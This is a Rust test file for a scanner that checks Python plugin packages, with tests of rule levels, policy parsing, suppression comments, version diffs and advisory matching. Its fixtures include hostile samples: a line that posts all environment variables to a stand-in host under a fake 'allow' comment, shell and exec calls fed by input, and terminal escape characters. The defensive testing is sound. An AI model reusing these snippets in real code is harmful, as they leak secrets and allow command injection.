//! Levels and policies: what blocks, what may be accepted, which files are refused.
#![expect(clippy::unwrap_used, reason = "a panic is how a test fails")]

use fapilog_scan::difference::Difference;
use fapilog_scan::policy::Policy;
use fapilog_scan::report::{Finding, Outcome};
use fapilog_scan::{Level, Options, Report, judge};
use fapilog_testkit::WheelBuilder;

fn report(source: &str, options: &Options) -> Report {
    let builder = WheelBuilder::plugin("fapilog-acme", "1.0")
        .file("fapilog_acme/plugin.py", source.as_bytes());
    judge(&builder.build(), &builder.filename(), options)
}

fn finding<'a>(report: &'a Report, rule: &str) -> &'a Finding {
    report
        .findings
        .iter()
        .find(|finding| finding.rule == rule)
        .unwrap()
}

#[test]
fn a_warning_blocks_only_where_the_level_says_so() {
    let report = report("import os\ndef f(x): os.system(x)\n", &Options::default());
    let blocking = |level| report.verdicts[&level].blocking.clone();
    assert!(!blocking(Level::Community).contains(&"process-shell".to_owned()));
    assert!(blocking(Level::Enterprise).contains(&"process-shell".to_owned()));
    assert!(blocking(Level::Verified).contains(&"licence".to_owned()));
}

#[test]
fn a_policy_changes_what_blocks_and_keeps_the_rest() {
    let options = Options {
        policy:
            "[levels.community.rules]\nprocess-shell = \"block\"\nplugin-entry-point = \"report\"\n"
                .parse()
                .unwrap(),
        ..Options::default()
    };
    let report = report("import os\ndef f(x): os.system(x)\n", &options);
    assert_eq!(
        report.verdicts[&Level::Community].blocking,
        ["process-shell"]
    );
}

#[test]
fn wrong_policies_are_refused_with_the_nearest_rule() {
    for (text, id, says) in [
        ("[levels.gold]\n", "bad-policy", "gold"),
        (
            "[levels.community]\nblock = \"error\"\n",
            "bad-policy",
            "block",
        ),
        (
            "[levels.community]\nblock-from = \"fatal\"\n",
            "bad-policy",
            "fatal",
        ),
        (
            "[levels.community.rules]\nproces-shell = \"block\"\n",
            "unknown-rule",
            "proces-shell",
        ),
    ] {
        let error = text.parse::<Policy>().unwrap_err();
        assert_eq!(error.id(), id, "{text}");
        assert!(error.to_string().contains(says), "{error}");
    }
    let error = "[levels.community.rules]\nproces-shell = \"block\"\n".parse::<Policy>();
    assert!(error.unwrap_err().hint().contains("`process-shell`"));
}

#[test]
fn an_accepted_finding_stays_in_the_report_and_blocks_nothing_up_to_the_allowed_severity() {
    let accepted = report(
        "import os\ndef f(x): os.system(x)  # fapilog: allow[process-shell] a fixed command\n",
        &Options::default(),
    );
    let found = finding(&accepted, "process-shell");
    assert_eq!(found.suppressed.as_deref(), Some("a fixed command"));
    let harmful = report(
        "import os, requests\n# fapilog: allow[exfiltration] trust me\ndef f(): requests.post('https://x.io', json=dict(os.environ))\n",
        &Options::default(),
    );
    assert!(
        harmful.verdicts[&Level::Community]
            .blocking
            .contains(&"exfiltration".to_owned())
    );
}

#[test]
fn a_version_that_opens_connections_is_told_from_one_that_does_not() {
    let options = Options::default();
    let old = report("import os\ndef f(): return os.getenv('X')\n", &options);
    let new = report(
        "import os, requests\ndef f(): return os.getenv('Y'), requests.get('https://api.acme.io', timeout=5)\n",
        &options,
    );
    let difference = Difference::between(&old, &new);
    let sentences: Vec<&str> = difference
        .gained
        .iter()
        .map(|gained| gained.sentence.as_str())
        .collect();
    assert_eq!(sentences, ["now opens network connections"]);
    assert_eq!(
        difference.gained[0].uses[0].detail.as_deref(),
        Some("api.acme.io")
    );
    assert_eq!(difference.details[0].detail.as_deref(), Some("Y"));
    assert_eq!(difference.new_findings, ["network-use"]);
    assert!(!Difference::between(&new, &new).is_more());
}

#[test]
fn the_same_bytes_give_the_same_report_and_it_survives_json() {
    let source = "import os\nos.system('x')\nexec(input())\n";
    let first = report(source, &Options::default());
    assert_eq!(first, report(source, &Options::default()));
    let text = serde_json::to_string(&first).unwrap();
    assert_eq!(serde_json::from_str::<Report>(&text).unwrap(), first);
}

#[test]
fn what_can_not_be_opened_fails_and_says_why() {
    let report = judge(
        b"PK no archive",
        "fapilog_acme-1.0-py3-none-any.whl",
        &Options::default(),
    );
    assert_eq!(report.outcome(Level::Community), Outcome::Fail);
    assert!(
        finding(&report, "package-structure")
            .message
            .contains("archive-truncated")
    );
    assert!(report.plugin.is_none() && report.gates.is_empty());
}

#[test]
fn text_of_the_package_can_not_steer_a_terminal() {
    let report = report(
        "x = getattr(__import__('os'), '\\x1b[2J\u{202e}')('y')\nexec('\u{7}' + input())\n",
        &Options::default(),
    );
    let style = fapilog_scan::render::text::Style {
        colour: false,
        verbose: true,
    };
    let text = fapilog_scan::render::text::report(&report, Level::Community, style);
    assert!(!text.contains(['\u{1b}', '\u{202e}', '\u{7}']), "{text}");
}

#[test]
fn requirements_are_held_against_an_export_of_advisories() {
    let folder = tempfile::tempdir().unwrap();
    let export = folder.path().join("advisory.json");
    let advisory = r#"{"schema_version": "1.7.0", "id": "PYSEC-1", "modified": "2026-01-01T00:00:00Z",
        "summary": "reads too much", "affected": [{"package": {"ecosystem": "PyPI", "name": "acme"},
        "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.0"}]}],
        "versions": ["1.0", "1.5"]}]}"#;
    std::fs::write(&export, advisory).unwrap();
    let database = fapilog_package::osv::OsvDatabase::open(&export).unwrap();
    let found = |requirement: &str| {
        let builder = WheelBuilder::plugin("fapilog-acme", "1.0")
            .metadata(&format!("Requires-Dist: {requirement}"));
        let path = folder.path().join(builder.filename());
        std::fs::write(&path, builder.build()).unwrap();
        let options = Options::default();
        let mut report = judge(&builder.build(), &builder.filename(), &options);
        fapilog_scan::advisories::add_findings(&mut report, &path, &database, &options).unwrap();
        let findings = report.findings.into_iter();
        let mut hits = findings.filter(|finding| finding.rule == "vulnerable-requirement");
        hits.next()
            .map(|finding| (finding.severity.word(), finding.message))
    };
    let (severity, message) = found("acme<2").unwrap();
    assert_eq!(severity, "error");
    assert!(
        message.contains("PYSEC-1: reads too much (the export is 0 days old)"),
        "{message}"
    );
    assert_eq!(found("acme>=1").unwrap().0, "warning");
    assert_eq!(found("acme>=2"), None);
    assert_eq!(found("other>=1"), None);
}
